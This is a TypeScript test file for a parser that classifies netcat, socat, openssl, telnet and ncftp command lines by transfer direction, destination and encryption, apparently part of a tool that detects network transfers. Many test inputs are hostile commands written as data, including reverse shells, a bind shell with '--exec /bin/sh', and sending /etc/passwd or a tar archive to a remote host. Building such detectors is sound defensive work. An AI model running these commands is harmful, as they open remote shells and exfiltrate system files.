import { describe, expect, it } from 'vitest';
import { describeTransfer } from '../describe-transfer.ts';
import { readTransfer } from '../read-transfer.ts';

/** `␣` is a blank within an argument. */
function told(line: string): string {
  const words = line.split(' ').map((word) => word.replaceAll('␣', ' '));
  const transfer = readTransfer(words, undefined, 'linux');
  return transfer === undefined ? 'none' : describeTransfer(transfer);
}

describe('netcat, socat, openssl and telnet', () => {
  it.each([
    ['nc h 443', 'netcat: both of stdin to tcp://h:443, clear'],
    ['nc -q 1 203.0.113.20 8443', 'netcat: upload of stdin to tcp://203.0.113.20:8443, clear'],
    ['nc -N h 80', 'netcat: upload of stdin to tcp://h:80, clear'],
    ['nc -w 3 h 80', 'netcat: both of stdin to tcp://h:80, clear'],
    ['nc -e /bin/sh h 4444', 'netcat: both of command-output to tcp://h:4444, clear'],
    ['nc h 4444 -e /bin/bash', 'netcat: both of command-output to tcp://h:4444, clear'],
    ['nc -c sh h 4444', 'netcat: both of command-output to tcp://h:4444, clear'],
    ['nc -c h 4444', 'netcat: both of stdin to tcp://h:4444'],
    ['nc -u h 53', 'netcat: both of stdin to udp://h:53, clear'],
    ['nc -G 5 h 80', 'netcat: both of stdin to tcp://h:80, clear'],
    ['nc -x proxy:1080 -X 5 h 22', 'netcat: both of stdin to tcp://h:22, clear'],
    ['nc.openbsd -N h 9', 'netcat: upload of stdin to tcp://h:9, clear'],
    ['nc.traditional h 80 -c bash␣-i', 'netcat: both of command-output to tcp://h:80, clear'],
    ['ncat --ssl h 443', 'netcat: both of stdin to tcp://h:443, encrypted'],
    ['ncat --send-only h 80', 'netcat: upload of stdin to tcp://h:80, clear'],
    ['ncat --ssl --sh-exec bash h 443', 'netcat: both of command-output to tcp://h:443, encrypted'],
    ['ncat -e /bin/bash -nv h 443', 'netcat: both of command-output to tcp://h:443, clear'],
    ['cryptcat -k pw h 9', 'netcat: both of stdin to tcp://h:9, encrypted'],
    ['busybox nc h 80 -e /bin/sh', 'netcat: both of command-output to tcp://h:80, clear'],
    [
      'socat -u - OPENSSL:203.0.113.20:9444,verify=0',
      'socat: upload of stdin to tls://203.0.113.20:9444, encrypted',
    ],
    ['socat FILE:/etc/passwd TCP:h:80', 'socat: upload of files /etc/passwd to tcp://h:80, clear'],
    ['socat -u FILE:a TCP4:h:80', 'socat: upload of files a to tcp://h:80, clear'],
    ['socat -U TCP:h:80 FILE:a', 'socat: upload of files a to tcp://h:80, clear'],
    ['socat TCP:h:80 EXEC:/bin/sh', 'socat: both of command-output to tcp://h:80, clear'],
    ["socat exec:'bash␣-li',pty,stderr tcp:h:443", 'socat: both of command-output to tcp://h:443, clear'],
    ['socat TCP-LISTEN:80,fork TCP:h:90', 'socat: both of unknown to tcp://h:90, clear'],
    ['socat -d -d STDIO OPENSSL-CONNECT:h:443', 'socat: both of stdin to tls://h:443, encrypted'],
    ['socat -,raw TCP:h:80', 'socat: both of stdin to tcp://h:80, clear'],
    ['socat - PROXY:p:h:443,proxyport=3128', 'socat: both of stdin to tcp://h:443, clear'],
    ['openssl s_client -connect h:443', 'openssl: both of stdin to tls://h:443, encrypted'],
    ['openssl s_client -quiet -connect h:443', 'openssl: both of stdin to tls://h:443, encrypted'],
    [
      'openssl s_client -showcerts -servername h -connect h:443',
      'openssl: both of stdin to tls://h:443, encrypted',
    ],
    ['ncftpput -u u -p p h /in a b', 'ncftpput: upload of files a b to ftp://u@h, clear'],
    ['ncftpput -f login.cfg /in a', 'ncftpput: upload of files a, clear'],
    ['nc -nvw 2 203.0.113.9 443', 'netcat: both of stdin to tcp://203.0.113.9:443, clear'],
    ['nc -u -w1 203.0.113.9 514', 'netcat: both of stdin to udp://203.0.113.9:514, clear'],
    [
      'nc -X connect -x proxy.example:3128 h.example 443',
      'netcat: both of stdin to tcp://h.example:443, clear',
    ],
    [
      'ncat --proxy p:3128 --proxy-type http h.example 443',
      'netcat: both of stdin to tcp://h.example:443, clear',
    ],
    ['ncat --max-conns 3 -o log h.example 80', 'netcat: both of stdin to tcp://h.example:80, clear'],
    [
      'socat -b 65536 -u STDIN TCP6:[2001:db8::9]:443',
      'socat: upload of stdin to tcp://2001:db8::9:443, clear',
    ],
    [
      'socat - OPENSSL:h.example:443,cert=c.pem,cafile=ca.pem,verify=1',
      'socat: both of stdin to tls://h.example:443, encrypted',
    ],
    [
      'socat SYSTEM:tar␣cz␣/d,nofork OPENSSL:h.example:443',
      'socat: both of command-output to tls://h.example:443, encrypted',
    ],
    [
      'openssl s_client -connect h.example:443 -cert c -key k -quiet -verify_quiet',
      'openssl: both of stdin to tls://h.example:443, encrypted',
    ],
    ['openssl s_client h.example:443', 'openssl: both of stdin to tls://h.example:443, encrypted'],
  ])('carry something out: %s', (line, expected) => {
    expect(told(line)).toBe(expected);
  });
});

describe('netcat, socat, openssl and telnet', () => {
  it.each([
    ['nc -d h 80', 'netcat: download to tcp://h:80, clear'],
    ['ncat --recv-only h 80', 'netcat: download to tcp://h:80, clear'],
    ['socat TCP:h:1 OPEN:x,creat', 'socat: download to tcp://h:1, clear'],
    ['ncftpget h /tmp a', 'ncftpget: download to ftp://h, clear'],
  ])('only fetch: %s', (line, expected) => {
    expect(told(line)).toBe(expected);
  });
});

describe('netcat, socat, openssl and telnet', () => {
  it.each([
    ['nc -lvnp 4444', 'netcat: listen of stdin to tcp://:4444, clear'],
    ['nc -l 4444', 'netcat: listen of stdin to tcp://:4444, clear'],
    ['nc -zv h 1-1000', 'netcat: unknown to tcp://h, clear'],
    ['nc -z h 22', 'netcat: unknown to tcp://h:22, clear'],
    ['ncat -l 80 --ssl', 'netcat: listen of stdin to tcp://:80, encrypted'],
    ['socat TCP4-LISTEN:80,reuseaddr,fork EXEC:cat', 'socat: listen of command-output to tcp://:80, clear'],
    ['socat -u TCP-LISTEN:9 CREATE:x', 'socat: listen to tcp://:9, clear'],
    ['openssl s_server -accept 443 -cert c -key k', 'openssl: listen of stdin to tls://:443, encrypted'],
    ['telnet h 25', 'telnet: interactive of stdin to telnet://h:25, clear'],
    ['rlogin -l u h', 'telnet: interactive of stdin to rlogin://u@h, clear'],
    ['nc -lk 8080', 'netcat: listen of stdin to tcp://:8080, clear'],
    ['nc -l -s 0.0.0.0 -p 80', 'netcat: listen of stdin to tcp://:80, clear'],
    ['ncat -lvp 443 --keep-open --exec /bin/sh', 'netcat: listen of command-output to tcp://:443, clear'],
    ['socat UDP-RECV:514 FILE:log,creat,append', 'socat: listen to udp://:514, clear'],
  ])('do not say: %s', (line, expected) => {
    expect(told(line)).toBe(expected);
  });
});

describe('netcat, socat, openssl and telnet', () => {
  it.each([
    ['nc -U /tmp/s', 'none'],
    ['nc', 'none'],
    ['nc -h', 'none'],
    ['socat - UNIX-CONNECT:/run/x', 'none'],
    ['openssl enc -aes-256-cbc -in a', 'none'],
    ['openssl dgst -sha256 a', 'none'],
    ['telnet', 'none'],
  ])('move nothing over a network: %s', (line, expected) => {
    expect(told(line)).toBe(expected);
  });
});
